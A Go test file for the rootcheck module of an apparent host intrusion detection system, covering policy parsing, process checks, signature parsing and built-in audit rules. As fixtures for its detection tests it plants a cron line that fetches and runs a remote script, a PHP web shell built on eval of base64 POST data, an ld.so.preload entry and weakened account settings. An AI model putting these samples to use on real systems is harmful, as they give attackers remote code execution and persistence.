//go:build unix

package rootcheck_test

import (
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/yagura-hids/yagura/agent/rootcheck"
	"github.com/yagura-hids/yagura/internal/osxml"
	"github.com/yagura-hids/yagura/rules"
)

// audit holds a tree against a policy, and returns the findings without their beginning.
func audit(t *testing.T, base, policy string) (found, reports []string) {
	t.Helper()
	conf := only(rootcheck.UnixAudit, base)
	conf.Audits = []string{write(t, filepath.Join(t.TempDir(), "p.txt"), policy)}
	texts, reports := once(t, conf)
	for _, text := range texts {
		rest, ok := strings.CutPrefix(text, "System Audit: ")
		if !ok {
			t.Errorf("%q", text)
		}
		found = append(found, rest)
	}
	return found, reports
}

// TestPolicyTests: one line, and whether it holds for a tree.
func TestPolicyTests(t *testing.T) {
	base := t.TempDir()
	write(t, base+"/etc/a", "One two\n# Two three\nyes=1\n")
	write(t, base+"/etc/b", "four\r\n\r\nfive six")
	write(t, base+"/etc/empty", "")
	write(t, base+"/www/x/index.php", "eval($_POST)\n")
	write(t, base+"/www/y.php", "echo\n")
	write(t, base+"/www/.hidden", "x\n")
	a, b := "T. File: /etc/a.", "T. File: /etc/b."
	tests := []struct {
		line string
		want []string // nil if it doesn't hold
	}{
		{`f:/etc/a`, []string{a}},
		{`f:/etc/none`, nil},
		{`f:/etc`, []string{"T. File: /etc."}},
		{`f:!/etc/none`, []string{"T."}},
		{`f:!/etc/a`, nil},
		{`!f:/etc/none`, []string{"T."}}, // OSSEC overlooks this !
		{`f!:/etc/none`, []string{"T."}},
		{`!f:/etc/a`, nil},
		{`!f:!/etc/a`, []string{a}},
		{`f:/etc/none,/etc/a,/etc/b`, []string{a}}, // OSSEC tests the first only
		{`f:/etc/a,/etc/b -> five six`, []string{b}},
		{`f:!/etc/a,/etc/b -> five six`, nil},
		{`f:!/etc/a,/etc/b -> seven`, []string{"T."}},
		{`f:$both -> four`, []string{b}},
		{`f:/etc/a -> one TWO`, []string{a}},
		{`f:/etc/a -> =:one two`, []string{a}},
		{`f:/etc/a -> one`, nil},
		{`f:/etc/a -> r:^one`, []string{a}},
		{`f:/etc/a -> r:two && r:three`, []string{a}},
		{`f:/etc/a -> r:one && r:three`, nil}, // no line has both
		{`f:/etc/a -> !r:^# && r:two three`, nil},
		{`f:/etc/a -> r:one two && r:^One && !r:^#`, []string{a}}, // a blank in a part before the last: OSSEC takes the rest for it
		{`f:/etc/a -> !r:^# &&r:yes=1`, []string{a}},
		{`f:/etc/a -> !r:seven`, []string{a}},   // all parts negated: no line has it
		{`f:/etc/a -> !r:two`, nil},             // some line has it
		{`f:/etc/a -> !r:seven && !r:two`, nil}, // some line has one of them
		{`f:/etc/none -> !r:seven`, nil},        // a file that can't be read never matches
		{`f:/etc/empty -> !r:seven`, []string{"T. File: /etc/empty."}},
		{`f:/etc -> !r:seven`, nil},
		{`f:/etc/b -> =:`, []string{b}},                // it has an empty line
		{`f:/etc/a -> r:^yes && <:yes=0`, []string{a}}, // the line is greater
		{`f:/etc/a -> r:^yes && <:yes=1`, nil},
		{`f:/etc/a -> r:^yes && >:yes=2`, []string{a}}, // the line is smaller
		{`f:/etc/a -> r:^yes && !>:yes=2`, nil},
		{`d:/www`, []string{"T. File: /www."}},
		{`d:/none`, nil},
		{`d:/none,/www -> .php$`, []string{"T. File: /www/x/index.php.", "T. File: /www/y.php."}},
		{`d:/www -> r:^\. -> r:x`, []string{"T. File: /www/.hidden."}},
		{`d:/www -> .php$ -> r:^eval`, []string{"T. File: /www/x/index.php."}},
		{`d:!/www -> .php$ -> r:^eval`, nil},
		{`d:!/www -> .php$ -> r:^nothing`, []string{"T."}},
		{`p:init-that-is-nowhere`, nil},
		{`p:!init-that-is-nowhere`, []string{"T."}},
		{`r:HKEY_LOCAL_MACHINE\Software`, nil},
	}
	for _, tt := range tests {
		found, reports := audit(t, base, "$both=/etc/a,/etc/b;\n[T] [any] []\n"+tt.line+"; what follows is no matter\n")
		if diff := cmp.Diff(tt.want, found); diff != "" || len(reports) != 0 {
			t.Errorf("%s: %s%v", tt.line, diff, reports)
		}
	}
}

func TestProcessTest(t *testing.T) {
	name := "a-command-with-a-long-name"
	path := filepath.Join(t.TempDir(), name)
	run(t, "cp", real(t, "sleep"), path)
	cmd := exec.Command(path, "1000")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Kill(); cmd.Wait() }()
	found, _ := audit(t, t.TempDir(), "[T] [all] [ref]\np:"+name+";\np:r:^a-command;\n")
	want(t, found, "T. Process: "+name+". Reference: ref .")
}

func TestConditions(t *testing.T) {
	base := t.TempDir()
	write(t, base+"/1", "")
	write(t, base+"/2", "")
	for policy, want := range map[string]string{
		"[A] [any] []\nf:/0;\nf:/1;\nf:/2;\n":                          "A. File: /1.",
		"[A] [all] []\nf:/1;\nf:/2;\n":                                 "A. File: /1.",
		"[A] [all] []\nf:/1;\nf:/0;\n":                                 "",
		"[A] [all] []\nf:!/0;\nf:/2;\n":                                "A. File: /2.",
		"[A] [any] []\n":                                               "",
		"[A] [any required] [r]\nf:/0;\n[B] [any] []\nf:/1;\n":         "",
		"[A] [any required] [r]\nf:/1;\n[B] [any] []\nf:/2;\n":         "A. File: /1. Reference: r .|B. File: /2.",
		"[A] [all required] []\nf:/1;\nf:/0;\n[B] [any] []\nf:/2;\n":   "",
		"[A {CIS: 1.1} {PCI_DSS: 2.2}] [any] [http://x/?a=1]\nf:/1;\n": "A {CIS: 1.1} {PCI_DSS: 2.2}. File: /1. Reference: http://x/?a=1 .",
		"# comment\n\n[A] [any]\r\nf:/1;\r\n":                          "A. File: /1.",
		"[A] [any] []\nf:/1;\nd:/ -> r:\\d;\n":                         "A. File: /1.",
		"[A] [any] []\nd:/ -> r:\\d;\nf:/1;\n":                         "A. File: /1.|A. File: /2.",
	} {
		found, reports := audit(t, base, policy)
		if got := strings.Join(found, "|"); got != want || len(reports) != 0 {
			t.Errorf("%q: %q %v, want %q", policy, got, reports, want)
		}
	}
}

// TestPolicyFaults: all that is wrong is told at once, with its place, and the rest works.
func TestPolicyFaults(t *testing.T) {
	const policy = `f:/1;
$x=;
[A] [any] []
f:/1
q:/1;
f:$y;
f:/1 -> r:\z;
f:!;
f:/1;
[B] [some] []
f:/1;
[C] [all] []
f:/1;
f:/1 -> r:\z;
[D] [any] []
f:/1;
`
	base := t.TempDir()
	write(t, base+"/1", "")
	found, reports := audit(t, base, policy)
	want(t, found, "A. File: /1.", "D. File: /1.")
	var lines []string
	for _, msg := range reports {
		lines = append(lines, strings.Split(msg, ":")[2])
	}
	if got := strings.Join(lines, " "); got != "1 2 4 5 6 7 8 10 14" {
		t.Errorf("faults in lines %s: %s", got, strings.Join(reports, "\n"))
	}
	if !strings.HasSuffix(reports[4], "$y is not defined: write $y=value; above; this test is left out of 'A'") ||
		!strings.Contains(reports[8], "the entry is left out of 'C'") {
		t.Errorf("%q", reports)
	}
}

func TestSignatureFaults(t *testing.T) {
	var faults osxml.Faults
	if n := rootcheck.ParseRootkits("f", "a ! b ::\nno\n*/x/y ! z ::\n ! c ::\n# c\n*/n ! two words :: l\n"+strings.Repeat("x", 9000), &faults); n != 2 || faults.Len() != 4 {
		t.Errorf("%d, %v", n, faults.Err())
	}
	faults = osxml.Faults{}
	n := rootcheck.ParseTrojans("t", "ls !a(!x\nls !a|b!x!y\nls\nls !!d\nls !a{1,2}\n", &faults)
	if n != 2 || faults.Len() != 3 {
		t.Errorf("%d, %v", n, faults.Err())
	}
	if got := faults.Err().Error(); !strings.HasPrefix(got, "t:1:5: error parsing regexp: missing closing ): `a(`: write a POSIX") {
		t.Error(got)
	}
}

// TestFilesThatAreMissing: a file that isn't there is told, and the built-in ones take its place.
func TestFilesThatAreMissing(t *testing.T) {
	base := t.TempDir()
	write(t, base+"/usr/bin/perfcc", "x")
	conf := only(rootcheck.FilesCheck, base)
	conf.Files = []string{base + "/none.txt"}
	found, reports := once(t, conf)
	want(t, found, "Rootkit 'perfctl' detected by the presence of file '"+base+"/usr/bin/perfcc'.")
	if len(reports) != 1 || reports[0] != "rootcheck: "+base+"/none.txt: no such file or directory: leave it out to use the built-in one" {
		t.Errorf("%q", reports)
	}
}

// TestBuiltIn: the built-in databases have no faults, and each file is used.
func TestBuiltIn(t *testing.T) {
	r, err := rootcheck.New(rootcheck.Config{}, rootcheck.Options{Databases: rules.Rootcheck})
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Faults(); err != nil {
		t.Error(err)
	}
	used := map[string]bool{}
	if r, err = rootcheck.New(rootcheck.Config{}, rootcheck.Options{Databases: recorder{rules.Rootcheck, used}}); err != nil {
		t.Fatal(err)
	}
	if err := r.Faults(); err != nil {
		t.Error(err)
	}
	names, err := fs.Glob(rules.Rootcheck, "rootcheck/*.txt")
	if err != nil || len(names) == 0 {
		t.Fatalf("%v, %v", names, err)
	}
	for _, name := range names {
		if !used[name] {
			t.Errorf("%s is never read", name)
		}
	}
}

type recorder struct {
	fs.FS
	used map[string]bool
}

func (r recorder) Open(name string) (fs.File, error) { r.used[name] = true; return r.FS.Open(name) }

// TestBuiltInPolicy plants what the built-in policies look for on any Unix.
func TestBuiltInPolicy(t *testing.T) {
	base := t.TempDir()
	write(t, base+"/etc/ssh/sshd_config", "PermitRootLogin yes\n#PermitEmptyPasswords yes\n")
	write(t, base+"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsync:x:5:0:sync:/sbin:/bin/sync\nadmin:x:0:0::/:/bin/sh\n")
	write(t, base+"/etc/shadow", "root:*:1:0:99999:7:::\nguest::1:0:99999:7:::\n")
	write(t, base+"/etc/sudoers.d/x", "%admin ALL=(ALL) ALL\nDefaults !authenticate\n")
	write(t, base+"/etc/cron.d/x", "* * * * * root curl -s http://192.0.2.1/x | sh\n")
	write(t, base+"/etc/ld.so.preload", "/tmp/x.so\n")
	write(t, base+"/var/www/html/x.php", "<?php eval(base64_decode($_POST['x'])); ?>\n")
	conf := only(rootcheck.UnixAudit, base)
	found, _ := once(t, conf)
	want(t, found,
		"System Audit: SSH: root may log in with a password {PCI_DSS: 2.2.4}. File: /etc/ssh/sshd_config. Reference: https://man.openbsd.org/sshd_config .",
		"System Audit: Accounts: another account than root has user id 0",
		"System Audit: Accounts: an account has no password",
		"System Audit: Sudo: nobody is asked for a password",
		"System Audit: Traces: a timed job runs what it fetches. File: /etc/cron.d/x.",
		"System Audit: Traces: a library is loaded into every program. File: /etc/ld.so.preload.",
		"System Audit: Web vuln: PHP code that runs what it is sent. File: /var/www/html/x.php.")
}

func TestHugeAndOddFiles(t *testing.T) {
	base := t.TempDir()
	write(t, base+"/long", strings.Repeat("x", 1<<20)+"\nneedle\n")
	run(t, "mkfifo", base+"/pipe")
	if err := os.Symlink(base+"/loop", base+"/loop"); err != nil {
		t.Fatal(err)
	}
	found, _ := audit(t, base, "[A] [any] []\nf:/pipe,/loop,/long -> needle;\n[B] [any] []\nd:/ -> r:\\w -> needle;\n")
	want(t, found, "A. File: /long.", "B. File: /long.")
}

// TestNoDatabases: it can't be built without.
func TestNoDatabases(t *testing.T) {
	if _, err := rootcheck.New(rootcheck.Config{}, rootcheck.Options{}); err == nil {
		t.Error(errors.New("built without databases"))
	}
}
